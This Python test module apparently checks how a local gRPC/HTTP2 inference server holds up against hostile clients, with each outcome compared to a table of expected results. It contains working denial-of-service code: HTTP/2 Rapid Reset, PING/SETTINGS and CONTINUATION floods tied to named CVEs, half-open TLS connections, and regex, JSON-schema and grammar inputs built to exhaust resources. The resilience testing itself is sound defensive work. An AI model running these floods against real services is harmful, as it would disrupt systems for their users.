"""Attacks on a port by strangers and by bad tenants. Each attack is a function of a target and an
end time, and counts the outcomes; ATTACKS lists the right ones."""
import collections
import dataclasses
import itertools
import multiprocessing
import os
import random
import socket
import ssl
import struct
import threading
import time

import asking
import http2
from http2 import Connection, Gone

STRUCTURED = 'text: "x" stopping {{ max_tokens: 4 }} structured_output {{ {form}: "{value}" }}'
SOURCE = "127.0.0.2"  # another than the good clients'
PATIENCE = 0.3  # seconds for the server to receive bytes sent to it
FAILED_CALLS_PER_SECOND = 10_000  # that the server allows a connection: connection_rules.cc
CODES = {0: "OK", 3: "INVALID_ARGUMENT", 8: "RESOURCE_EXHAUSTED", 12: "UNIMPLEMENTED", 13: "INTERNAL", 14: "UNAVAILABLE", 16: "UNAUTHENTICATED"}


@dataclasses.dataclass
class Target:
    address: str
    authority: object  # of daemon.py
    token: str

    def socket(self, tls=None):
        return http2.connect(self.address, tls, timeout=30, source=SOURCE)

    def connection(self, timeout=30):
        return Connection(self.address, self.authority.context("client"), timeout, SOURCE)


def closed_or(reader):
    """How a connection ends that the server should end: reads until it does."""
    try:
        while reader():
            pass
        return "closed"
    except (Gone, ConnectionError, ssl.SSLError):
        return "closed"
    except TimeoutError:
        return "left open"


def garbage(target, until):
    """Random bytes."""
    met, chance = collections.Counter(), random.Random(1)
    while time.monotonic() < until:
        with target.socket() as plain:
            try:
                plain.sendall(chance.randbytes(chance.choice([1, 24, 1000, 20000])))
                plain.shutdown(socket.SHUT_WR)
            except OSError:
                met["closed"] += 1
                continue
            met[closed_or(lambda s=plain: s.recv(4096))] += 1
    return met


def hello_bytes(target):
    """The first flight of a TLS handshake."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = target.authority.context("client").wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def half_open(target, until, first=b""):
    """Very many idle connections."""
    met, held = collections.Counter(), []
    try:
        while time.monotonic() < until:
            if len(held) < 500:
                held.append(target.socket())
                held[-1].sendall(first)
                met["opened"] += 1
            else:
                time.sleep(0.1)
        # By now the server must have timed all of them out.
        for plain in held:
            plain.settimeout(20)
            met[closed_or(lambda s=plain: s.recv(4096))] += 1
    finally:
        for plain in held:
            plain.close()
    return met


def half_handshake(target, until):
    """Connections that begin a TLS handshake and never finish it."""
    return half_open(target, until, hello_bytes(target)[:-20])


def refused_handshake(target, until, name, alpn="h2"):
    met, context = collections.Counter(), target.authority.context(name, alpn)
    while time.monotonic() < until:
        try:
            with target.socket(context) as tls:
                tls.sendall(http2.PREFACE + Connection.frame(http2.SETTINGS, 0, 0))
                # TLS 1.3: the client is done before the server has checked its certificate.
                met["let in" if tls.recv(1) else "closed"] += 1
        except (ssl.SSLError, ConnectionError):
            met["closed"] += 1
    return met


def wrong_alpn(target, until):
    """HTTP/1.1 requests, as of a web browser."""
    return refused_handshake(target, until, "client", "http/1.1")


def expired_certificate(target, until):
    return refused_handshake(target, until, "expired")


def no_certificate(target, until):
    return refused_handshake(target, until, None)


def has_ended(connection):
    """Whether the server has ended it, which a sending client may not have noticed."""
    connection.socket.settimeout(0.0)
    try:
        while connection.socket.recv(1 << 16):
            pass
    except (BlockingIOError, ssl.SSLWantReadError):
        return False
    except OSError:
        pass
    return True


def send_frames(connection, until, frames_of, reads, met):
    """Sends over one connection without end; returns how it ends."""
    while time.monotonic() < until:
        frames = frames_of(connection)
        connection.socket.settimeout(PATIENCE)
        try:
            connection.send(*frames)
        except TimeoutError:
            return "closed" if has_ended(connection) else "held back"
        met["frames"] += len(frames)
        if reads and has_ended(connection):
            return "closed"
    return "left"


def flood(target, until, frames_of, reads=True, is_ended=True):
    """Sends frames without end, over a new connection as soon as one is closed or blocks;
    `is_ended`: until at least one was closed."""
    met = collections.Counter()
    while time.monotonic() < (end := until if met["closed"] or not is_ended else until + 20):
        try:
            with target.connection() as connection:
                met[send_frames(connection, end, frames_of, reads, met)] += 1
        except (Gone, OSError):
            met["closed"] += 1
    return met


def rapid_reset(target, until, token):
    """CVE-2023-44487: calls that are cancelled at once. gRPC 1.51 has no protection: each costs it
    30 kB until it processes the cancellation, which it does not while more arrive. On a busy
    machine all of the flood may stay below the allowed rate, and then its connection may stay."""
    def frames(connection):
        headers, out = connection.request_headers(asking.GENERATE, token), []
        for _ in range(100):
            stream = connection.next_stream()
            out += [Connection.frame(http2.HEADERS, http2.END_HEADERS, stream, headers),
                    Connection.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8))]
        return out
    begin = time.monotonic()
    met = flood(target, until, frames)
    if not met["closed"] and met["frames"] / 2 < FAILED_CALLS_PER_SECOND * (time.monotonic() - begin):
        met["slow"] += 1
    return met


def open_streams(target, until):
    """Calls that never send their message."""
    def frames(connection):
        time.sleep(0.01)
        headers = connection.request_headers(asking.GENERATE, target.token)
        return [Connection.frame(http2.HEADERS, http2.END_HEADERS, connection.next_stream(), headers) for _ in range(100)]
    return flood(target, until, frames)


def short_calls(connection, token, count):
    """Calls without messages in 16 bytes each: the server keeps the first call's headers in its
    table (RFC 7541, section 2.3.2)."""
    fields = connection.request_fields(asking.GENERATE, token)
    first = b"".join(b"\x40" + http2.header(name, value)[1:] for name, value in fields)
    later = bytes(0x80 | 62 + i for i in reversed(range(len(fields))))
    return [Connection.frame(http2.HEADERS, http2.END_HEADERS, connection.next_stream(), later if i else first) for i in range(count)]


def many_connections(target, until):
    """Opens connections as fast as possible from eight threads, each with 500 calls that never send
    their message, which is within the limit of one connection. A thread waits while the server
    delays its new connection."""
    met, held, lock = collections.Counter(), [], threading.Lock()

    def connect():
        while time.monotonic() < until:
            try:
                connection = target.connection(timeout=2)
                connection.send(*short_calls(connection, target.token, 500))
            except TimeoutError:
                what = "held back"
            except (Gone, OSError):
                what = "closed"
            else:
                what = "opened"
                held.append(connection)
            with lock:
                met[what] += 1

    threads = [threading.Thread(target=connect) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for connection in held:
        met["closed"] += has_ended(connection)
        connection.close()
    return met


def pings(target, until):
    return flood(target, until, lambda _: [Connection.frame(http2.PING, 0, 0, b"12345678")] * 500)


def pings_unread(target, until):
    """CVE-2019-9512: unread responses pile up."""
    return flood(target, until, lambda _: [Connection.frame(http2.PING, 0, 0, b"12345678")] * 500, reads=False, is_ended=False)


def settings_unread(target, until):
    """CVE-2019-9515: the same with SETTINGS."""
    return flood(target, until, lambda _: [Connection.frame(http2.SETTINGS, 0, 0, struct.pack(">HI", 3, 100))] * 500, reads=False, is_ended=False)


def endless_headers(target, until, knows_limit):
    """CVE-2024-27316: endless CONTINUATION frames, by a client that has acknowledged the header
    limit, or has not. CVE-2023-33953: gRPC 1.51 measures each frame by itself, and keeps them
    all."""
    part = http2.header("x-more", "x" * 8000)

    def frames(connection):
        if connection.next_stream() > 1:
            return [Connection.frame(http2.CONTINUATION, 0, 1, part)] * 16
        if knows_limit:
            connection.read_frame()
        acknowledged = Connection.frame(http2.SETTINGS, http2.ACK, 0) if knows_limit else b""
        return [acknowledged, Connection.frame(http2.HEADERS, 0, 1, connection.request_headers(asking.GENERATE, target.token))]
    return flood(target, until, frames)


def calls(target, until, token, message_of, more=(), least=1):
    """At least this many, however long they take."""
    met, connection = collections.Counter(), None
    while time.monotonic() < until or met.total() < least:
        try:
            connection = connection or target.connection()
            status = connection.call(asking.GENERATE, message_of(), token, more=more).status
            met[CODES.get(status, f"status {status}")] += 1
        except (Gone, OSError):
            met["closed"] += 1
            connection = None
    return met


def long_headers(target, until):
    """A connection's first call may pass: gRPC applies the limit once its client has acknowledged
    it, and ends the connection at the first call over it."""
    message = asking.generate(max_tokens=1)
    return calls(target, until, target.token, lambda: message, [("x-long", "x" * 60000)])


def wrong_tokens(target, until):
    message = asking.generate(max_tokens=1)
    return calls(target, until, "wrong", lambda: message)


def no_messages(target, until):
    """Bytes that are not a request, and a prompt that is not UTF-8, with a token."""
    chance = random.Random(2)
    return calls(target, until, target.token, lambda: chance.choice([b"\x0a\xff\xff\xff\xff\x7f" + chance.randbytes(50), b"\x1a\2\xff\xfe"]))


def exploding_structures(target, until):
    """Small schemas, expressions and grammars that demand excessive resources."""
    nested = '{"a":' * 3000 + "{}" + "}" * 3000
    wide = '{"type":"object","properties":{' + ",".join(f'"k{i}":{{"enum":["{"x" * 50}{i}"]}}' for i in range(2000)) + "}}"
    endless = '{"$ref":"#/$defs/a","$defs":{"a":{"anyOf":[{"$ref":"#/$defs/b"},{"$ref":"#/$defs/a"}]},"b":{"$ref":"#/$defs/a"}}}'
    powers = '{"$ref":"#/$defs/d0","$defs":{' + ",".join(
        f'"d{i}":{{"type":"object","properties":{{"a":{{"$ref":"#/$defs/d{i + 1}"}},"b":{{"$ref":"#/$defs/d{i + 1}"}}}}}}' for i in range(40)
    ) + ',"d40":{"type":"null"}}}'
    cases = [("json_schema", nested), ("json_schema", wide), ("json_schema", endless), ("json_schema", powers),
             ("json_schema", '{"type":"array","minItems":1000000000}'), ("json_schema", '{"type":"string","pattern":"(a{1,999}){1,999}"}'),
             ("regex", "(((a{1,1000}){1,1000}){1,1000}){1,1000}"), ("regex", "(a*)*" * 500), ("regex", "(" * 5000 + "a" + ")" * 5000),
             ("regex", "[a-z]{1000000000}"), ("grammar", "root ::= root root"), ("grammar", "root ::= " + "(" * 20000),
             ("grammar", "root ::= a{1,100000000}\\na ::= [a-z]{1,100000}")]
    messages = [asking.encode("GenerateRequest", STRUCTURED.format(form=form, value=value.replace('"', '\\"'))) for form, value in cases]
    every = itertools.cycle(messages)
    return calls(target, until, target.token, lambda: next(every), least=len(messages))


@dataclasses.dataclass
class Attack:
    run: object
    right: set      # allowed outcomes
    must: str = ""  # and has to
    memory: int = 192 << 20  # bytes that the daemon may grow by during the attack


FLOODED = {"frames", "held back", "closed", "left"}
ATTACKS = {
    "garbage": Attack(garbage, {"closed"}, "closed"),
    "half-open connections": Attack(half_open, {"opened", "closed"}, "closed"),
    "half-done handshakes": Attack(half_handshake, {"opened", "closed"}, "closed"),
    "wrong ALPN": Attack(wrong_alpn, {"closed"}, "closed"),
    "expired certificate": Attack(expired_certificate, {"closed"}, "closed"),
    "no certificate": Attack(no_certificate, {"closed"}, "closed"),
    "pings, answers unread": Attack(pings_unread, FLOODED),
    "settings, answers unread": Attack(settings_unread, FLOODED),
    "long headers": Attack(long_headers, {"RESOURCE_EXHAUSTED", "closed", "OK"}, "RESOURCE_EXHAUSTED"),
    "wrong tokens": Attack(wrong_tokens, {"UNAUTHENTICATED"}, "UNAUTHENTICATED"),
    "no messages": Attack(no_messages, {"INVALID_ARGUMENT"}, "INVALID_ARGUMENT"),
    "exploding structures": Attack(exploding_structures, {"OK", "INVALID_ARGUMENT", "RESOURCE_EXHAUSTED"}, "INVALID_ARGUMENT"),
    # Not bounded by gRPC 1.51 but by server/net/connection_guard.h. Last: their remains in the heap
    # would hide the use of others.
    "streams without messages": Attack(open_streams, FLOODED, "closed"),
    "many connections without messages": Attack(many_connections, {"opened", "held back", "closed"}, "opened", 512 << 20),
    "pings": Attack(pings, FLOODED, "closed"),
    "rapid resets": Attack(lambda target, until: rapid_reset(target, until, target.token), FLOODED | {"slow"}, "closed"),
    "rapid resets, no token": Attack(lambda target, until: rapid_reset(target, until, None), FLOODED | {"slow"}, "closed"),
    "endless headers": Attack(lambda target, until: endless_headers(target, until, True), FLOODED, "closed"),
    "endless headers, no limit known": Attack(lambda target, until: endless_headers(target, until, False), FLOODED, "closed"),
}


def problems_of(name, met):
    """The wrong outcomes of an attack, as text."""
    attack = ATTACKS[name]
    found = [f"{name}: met with '{what}' x{times}" for what, times in met.items() if what not in attack.right]
    if attack.must and not met.get(attack.must) and not met.get("slow"):
        found.append(f"{name}: never met with '{attack.must}'")
    return found


class Running:
    """An attack in its own process, so that its work does not delay its victims' clocks."""

    def __init__(self, name, target, seconds):
        self._ours, theirs = multiprocessing.Pipe()
        self._process = multiprocessing.get_context("spawn").Process(target=self._run, args=(name, target, seconds, theirs), daemon=True)
        self._process.start()
        theirs.close()

    @staticmethod
    def _run(name, target, seconds, pipe):
        os.nice(5)  # it shares the daemon's cores, unlike a real attacker
        pipe.send(ATTACKS[name].run(target, time.monotonic() + seconds))

    def running(self):
        return self._process.is_alive() and not self._ours.poll()

    def result(self, timeout):
        """The outcomes."""
        try:
            met = self._ours.recv() if self._ours.poll(timeout) else collections.Counter({"no end": 1})
        except EOFError:
            met = collections.Counter({"an error of its own": 1})
        self._process.terminate()
        self._process.join()
        return met
